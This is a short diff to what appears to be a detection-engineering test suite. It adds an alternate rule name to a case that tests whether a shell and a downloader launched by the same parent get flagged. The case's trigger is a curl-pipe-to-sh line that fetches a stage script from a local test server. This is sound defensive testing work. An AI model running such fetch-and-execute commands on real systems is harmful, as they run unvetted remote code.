@@ -304,7 +304,8 @@ CASES += [
          ''', cleanup='rm -f /var/tmp/.kdevtmp.*', where=BOTH),
     # curl | sh typed in a script: no single command line holds both ends.
     Case(id="execution.seq.curl_pipe_sh_in_script", tactic="execution", technique="T1059.004",
-         rules=["Downloader and Shell Started by the Same Parent"],
+         rules=["Downloader and Shell Started by the Same Parent",
+                "Shell and Downloader Started by the Same Parent"],
          trigger=SERVE + r'''
             curl -fsSL "http://127.0.0.1:$DET_PORT2/stage.sh" | sh
          ''', where=BOTH, needs=["curl"]),
